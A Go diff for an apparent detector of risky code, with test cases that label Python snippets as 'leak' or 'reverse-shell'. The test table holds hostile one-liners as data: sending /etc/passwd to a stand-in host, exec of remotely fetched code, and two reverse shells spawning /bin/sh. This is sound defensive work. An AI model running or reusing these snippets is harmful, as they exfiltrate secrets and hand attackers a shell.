@@ -42,7 +42,7 @@ func describe(r Result) string {
 			s = "connect"
 		case spec.SendsData:
 			s = "send"
-			if a.Words[0].Origin()&(spec.FromFile|spec.FromSecret) != 0 {
+			if a.Words[0].Taint()&(spec.FromFile|spec.FromSecret) != 0 {
 				s = "leak"
 			}
 			out = append(out, s)
@@ -153,8 +153,8 @@ func TestPython(t *testing.T) {
 		{"import requests\nrequests.post('http://x.example', data=open('/etc/passwd').read())", "builds read:/etc/passwd connect:http://x.example leak"},
 		{"import requests\nexec(requests.get('http://x.example').text)", "builds fetch:http://x.example downloaded ?"},
 		{"import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
-			"fetch:10.0.0.1 network ? run:/bin/sh:-i tethers"},
-		{"import socket,pty;s=socket.create_connection(('h',1));pty.spawn('/bin/sh')", "fetch:h run:/bin/sh ? tethers"},
+			"fetch:10.0.0.1 network ? run:/bin/sh:-i reverse-shell"},
+		{"import socket,pty;s=socket.create_connection(('h',1));pty.spawn('/bin/sh')", "fetch:h run:/bin/sh ? reverse-shell"},
 		// not seen through
 		{"exec(input())", "?"},
 		{"exec(__import__('base64').b64decode('cHJpbnQoMSk='))", "decoded ?"},
